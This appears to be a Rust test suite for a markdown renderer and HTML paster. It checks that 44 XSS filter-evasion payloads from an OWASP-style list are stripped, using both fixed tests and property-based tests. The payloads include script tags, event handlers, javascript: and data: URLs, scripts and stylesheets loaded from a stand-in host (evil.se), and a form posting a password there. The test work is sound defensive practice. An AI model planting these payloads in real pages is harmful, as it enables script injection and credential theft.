//! What must not survive, however it is written (after the OWASP XSS filter evasion list).

use cairn_markdown::{Options, from_html, links, render};
use proptest::prelude::*;

const ATTACKS: [&str; 44] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.se/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
    "<embed src=javascript:alert(1)>",
    "<style>@import 'https://evil.se/x.css';</style>",
    "<link rel=stylesheet href=https://evil.se/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<form action=https://evil.se><input name=password><button>ok</button></form>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<a href=\"javascript:alert(1)\" onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\u{9}script:alert(1))",
    "[x](&#106;avascript&#58;alert(1))",
    "[x](<java\u{1}script:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://a.se \"onmouseover=alert(1) \\\"><script>alert(1)</script>\")",
    "`</code><script>alert(1)</script>`",
    "```\" onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
];

/// Elements and attributes as a browser reads them, so that words that merely look like an
/// attack and are escaped do not count.
fn tags(html: &str) -> Vec<String> {
    html.split('<').skip(1).map(|tag| tag.split('>').next().unwrap().to_lowercase()).collect()
}

fn assert_harmless(html: &str, from: &str) {
    for tag in tags(html) {
        let name = tag.trim_start_matches('/').split_whitespace().next().unwrap_or("").to_owned();
        let known = [
            "a",
            "p",
            "br",
            "hr",
            "em",
            "strong",
            "del",
            "code",
            "pre",
            "ul",
            "ol",
            "li",
            "img",
            "blockquote",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "sup",
            "section",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
        ];
        assert!(known.contains(&name.as_str()), "<{tag}> of {from:?} in {html}");
        let attributes = without_values(&tag);
        assert!(!attributes.contains(" on"), "<{tag}> of {from:?}");
        assert!(!attributes.contains(" style"), "<{tag}> of {from:?}");
        for value in ["href=\"", "src=\""].iter().filter_map(|name| tag.split(*name).nth(1)) {
            let url: String = value.split('"').next().unwrap().replace("&amp;", "&");
            let scheme = url.split_once(':').map(|(scheme, _)| scheme.to_owned());
            let fine = scheme.is_none_or(|scheme| {
                ["http", "https", "mailto", "tel"].contains(&scheme.as_str())
                    || scheme.contains(['/', '#', '?'])
            });
            assert!(fine, "{url} of {from:?}");
        }
    }
}

fn without_values(tag: &str) -> String {
    tag.split('"').step_by(2).collect()
}

fn rendered(md: &str) -> String {
    render(md, &Options::default()).unwrap().to_string()
}

#[test]
fn nothing_that_runs_survives_rendering() {
    for attack in ATTACKS {
        for around in [
            attack.to_owned(),
            format!("text {attack} text"),
            format!("- {attack}\n\n  > {attack}"),
            format!("| a |\n|---|\n| {} |", attack.replace('\n', " ")),
            format!("# {attack}\n\nx[^1]\n\n[^1]: {attack}"),
        ] {
            assert_harmless(&rendered(&around), &around);
        }
    }
}

#[test]
fn nothing_that_runs_survives_pasting() {
    for attack in ATTACKS {
        let pasted = from_html(attack).unwrap().markdown;
        assert_harmless(&rendered(&pasted), attack);
        for link in links(&pasted).unwrap() {
            assert!(!link.url.contains("javascript:") && !link.url.contains("data:"), "{link:?}");
        }
    }
}

fn hostile() -> impl Strategy<Value = String> {
    let pieces = proptest::sample::select(
        [
            &ATTACKS[..],
            &[
                "\n", "\n\n", "- ", "> ", "| ", "|---|", "[", "](", ")", "![", "`", "```", "*",
                "**", "# ", "<", ">", "\"", "'", "&", "&lt;", "[^1]", "[^1]: ", "ord", "å", "\\",
                "    ",
            ],
        ]
        .concat(),
    );
    proptest::collection::vec(pieces, 0..12).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]
    #[test]
    fn any_mixture_is_harmless_and_means_the_same_parsed_again(md in hostile()) {
        let html = rendered(&md);
        assert_harmless(&html, &md);
        let mut again = ammonia::Builder::default();
        again.link_rel(Some("noopener")).add_generic_attributes(["id", "class", "loading"]);
        again.add_tags(["section"]).url_schemes(["http", "https", "mailto", "tel"].into());
        prop_assert_eq!(again.clean(&html).to_string(), html);
    }

    #[test]
    fn any_paste_is_harmless(html in hostile()) {
        let pasted = from_html(&html).unwrap().markdown;
        assert_harmless(&rendered(&pasted), &html);
    }
}
